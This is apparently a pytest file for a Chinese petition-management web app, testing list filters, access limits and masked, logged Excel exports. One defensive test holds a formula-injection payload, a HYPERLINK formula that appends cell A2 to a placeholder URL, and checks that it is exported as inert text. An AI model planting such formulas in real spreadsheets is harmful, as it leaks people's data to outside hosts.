"""Lists (the shared filter), pinned query counts, and Excel exports with masking and logging."""

import datetime as dt

import pytest
import time_machine
from openpyxl import load_workbook

from xinfang.core.models import AccessLog
from xinfang.testing.factories import act, at, register
from xinfang.workbench.models import ExportJob
from xinfang.workbench.services.exports import export_create, export_run

pytestmark = pytest.mark.django_db
TZ = dt.timezone(dt.timedelta(hours=8))


@pytest.fixture
def several(county):
    matters = [register(county, title=f"道路积水问题{i}", content="雨后道路积水严重，影响出行。") for i in range(3)]
    matters.append(register(county, title="噪音扰民", content="夜间施工噪音", channel="letter").matter)
    act(county, "officer", matters[0].matter, "forward", unit="T01")
    act(county, "officer", matters[1].matter, "forward", unit="T02")
    return [getattr(m, "matter", m) for m in matters]


def test_list_filters_and_search(county, web, several):
    c = web("officer")
    body = c.get("/matters/").content.decode()
    assert all(m.number in body for m in several)
    body = c.get("/matters/", {"status": "forwarded", "unit": "T01"}).content.decode()
    assert several[0].number in body and several[1].number not in body
    body = c.get("/matters/", {"channel": "letter"}).content.decode()
    assert several[3].number in body and several[0].number not in body
    body = c.get("/matters/", {"q": "积水"}).content.decode()
    assert several[0].number in body and several[3].number not in body
    body = c.get("/matters/", {"status": "open", "category": "010000", "region": "139999100000"}).content.decode()
    assert several[2].number in body


def test_list_flags_and_dates(county, web, several):
    c = web("officer")
    body = c.get("/matters/", {"repeat": "true"}).content.decode()
    assert "没有符合条件的事项" in body
    today = dt.date.today().isoformat()
    body = c.get("/matters/", {"received_before": "2000-01-01"}).content.decode()
    assert "没有符合条件的事项" in body
    assert c.get("/matters/", {"due_after": today}).status_code == 200


def test_every_filter_of_the_issue_selects_its_rows(county, web):
    # Issue 3 §4: state, unit, channel, category, region, purpose, flags, received and due ranges.
    now = dt.datetime.now(TZ)
    old = register(county, title="旧件", received_at=(now - dt.timedelta(days=40)).isoformat(), channel="letter",
                   purpose="suggestion", headcount=6, major=True, region=county.other_town_region.code).matter
    new = register(county, title="新件", received_at=(now - dt.timedelta(days=1)).isoformat(), law_related=True).matter
    act(county, "officer", new, "forward", unit="T01")
    old.refresh_from_db()
    new.refresh_from_db()
    cases = [
        ({"status": "forwarded"}, new), ({"status": "registered"}, old), ({"unit": "T01"}, new),
        ({"channel": "letter"}, old), ({"category": "010101"}, None), ({"region": county.other_town_region.code}, old),
        ({"region": county.town_region.code}, new), ({"purpose": "suggestion"}, old), ({"purpose": "request"}, new),
        ({"collective": "true"}, old), ({"collective": "false"}, new), ({"major": "true"}, old),
        ({"law_related": "true"}, new),
        ({"received_before": (now - dt.timedelta(days=30)).date().isoformat()}, old),
        ({"received_after": (now - dt.timedelta(days=2)).date().isoformat()}, new),
        ({"due_before": old.next_due.isoformat()}, old), ({"due_after": new.next_due.isoformat()}, new),
        ({"overdue": "true"}, old), ({"q": "新件"}, new),
    ]
    c = web("officer")
    for params, expected in cases:
        r = c.get("/matters/", params)
        assert r.status_code == 200, params
        found = {m.number for m in r.context["result"].page.object_list}
        wanted = {old.number, new.number} if expected is None else {expected.number}
        assert found == wanted, (params, found)


def test_invalid_filter_is_pointed_at(web, several):
    r = web("officer").get("/matters/", {"region": "999999999999"})
    assert r.status_code == 400
    body = r.content.decode()
    assert "行政区划代码" in body and "field--error" in body


def test_unit_user_sees_only_own_units_matters(web, several):
    body = web("handler").get("/matters/").content.decode()
    assert several[0].number in body
    assert several[1].number not in body and several[2].number not in body


def test_sort_and_paginate(county, web, several):
    c = web("officer")
    body = c.get("/matters/", {"sort": "number"}).content.decode()
    assert body.index(several[0].number) < body.index(several[3].number)
    body = c.get("/matters/", {"sort": "-number"}).content.decode()
    assert body.index(several[3].number) < body.index(several[0].number)
    for _ in range(18):
        register(county)
    body = c.get("/matters/").content.decode()
    assert "第 1 / 2 页" in body and 'rel="next"' in body
    body = c.get("/matters/", {"page": "2"}).content.decode()
    assert "第 2 / 2 页" in body


def test_list_query_count_is_pinned(county, web, several, django_assert_max_num_queries):
    c = web("officer")
    with django_assert_max_num_queries(16):
        c.get("/matters/", {"status": "open", "unit": "T01", "category": "010000"})
    for _ in range(15):
        register(county)
    with django_assert_max_num_queries(16):  # same number of queries with more rows
        c.get("/matters/", {"status": "open", "unit": "T01", "category": "010000"})


@time_machine.travel(dt.datetime(2026, 9, 30, 9, tzinfo=TZ), tick=False)
def test_overdue_rows_are_coloured(county, web):
    late = register(county, received_at=at("2026-09-09")).matter
    act(county, "officer", late, "forward", unit="T01", occurred_at=at("2026-09-10"))
    body = web("officer").get("/matters/", {"overdue": "true"}).content.decode()
    row = body[body.index(late.number) - 150: body.index(late.number)]
    assert "row--overdue" in row


def test_export_from_the_list(county, web, several, settings):
    c = web("officer")
    r = c.post("/exports/", {"query": "status=forwarded"})
    job = ExportJob.objects.get()
    assert r["Location"] == f"/exports/{job.pk}/"
    assert job.status == "done" and job.total == 2
    body = c.get(r["Location"]).content.decode()
    assert "已完成" in body and "下载" in body
    r = c.get(f"/exports/{job.pk}/download/")
    assert r.status_code == 200
    path = settings.XINFANG_EXPORT_DIR / "check.xlsx"
    path.write_bytes(b"".join(r.streaming_content))
    rows = list(load_workbook(path).active.iter_rows(values_only=True))
    assert rows[2][0] == "事项编号" and len(rows) == 5  # title, who/when, header, two rows
    numbers = {row[0] for row in rows[3:]}
    assert numbers == {several[0].number, several[1].number}
    person = several[0].petitions.first().persons.first()
    flat = " ".join(str(v) for row in rows for v in row if v)
    assert person.id_number not in flat and person.phone not in flat and person.id_number[:4] + "*" in flat
    log = AccessLog.objects.get(kind="export")
    assert log.user == county.users["officer"] and log.detail["rows"] == 2


def test_typed_formulas_are_exported_as_text(county, web):
    # A petitioner's "=HYPERLINK(...)" must not become a live formula in the bureau's Excel ledger.
    from openpyxl import load_workbook as load

    formula = '=HYPERLINK("http://example.invalid/?"&A2,"点击查看")'
    m = register(county, title=formula, content="=1+1 正文").matter
    job = export_run(export_create(actor=county.users["officer"], query="").pk)
    sheet = load(job.file_path).active
    row = next(r for r in sheet.iter_rows(min_row=4) if r[0].value == m.number)
    title, content = row[6], row[7]
    assert title.value == formula and title.data_type == "s"
    assert content.value == "=1+1 正文" and content.data_type == "s"


def test_export_respects_access(county, web, several):
    job = export_create(actor=county.users["handler"], query="")
    job = export_run(job.pk)
    assert job.done_rows == 1  # only T01's matter
    assert web("officer").get(f"/exports/{job.pk}/").status_code == 404
    assert web("officer").get(f"/exports/{job.pk}/download/").status_code == 404
    assert web("handler").get(f"/exports/{job.pk}/download/").status_code == 200


def test_export_progress_partial_polls_until_done(county, web, settings):
    settings.XINFANG_EXPORT_INLINE = True
    job = export_create(actor=county.users["officer"], query="")
    c = web("officer")
    body = c.get(f"/exports/{job.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert 'hx-trigger="every 1s"' in body and "<html" not in body
    export_run(job.pk)
    body = c.get(f"/exports/{job.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert "hx-trigger" not in body and "下载" in body


def test_export_with_bad_filter_is_refused(web):
    r = web("officer").post("/exports/", {"query": "status=bogus"})
    assert r.status_code == 400 and "状态" in r.content.decode()
    assert not ExportJob.objects.exists()


def test_export_list_page(county, web, several):
    web("officer").post("/exports/", {"query": ""})
    body = web("officer").get("/exports/").content.decode()
    assert "信访事项台账" in body and "下载" in body
    assert "信访事项台账" not in web("registrar").get("/exports/").content.decode()


def test_export_streams_in_constant_memory(county, settings):
    """Rows go to a write-only workbook chunk by chunk: memory does not grow with the row count."""
    import tracemalloc

    from xinfang.workbench.services import exports

    for _ in range(6):
        register(county)

    def peak(rows_wanted):
        job = export_create(actor=county.users["officer"], query="")
        tracemalloc.start()
        export_run(job.pk)
        _, top = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return top

    exports.CHUNK = 2
    try:
        small = peak(6)
        for _ in range(12):
            register(county)
        large = peak(18)
    finally:
        exports.CHUNK = 500
    assert large < small * 1.5
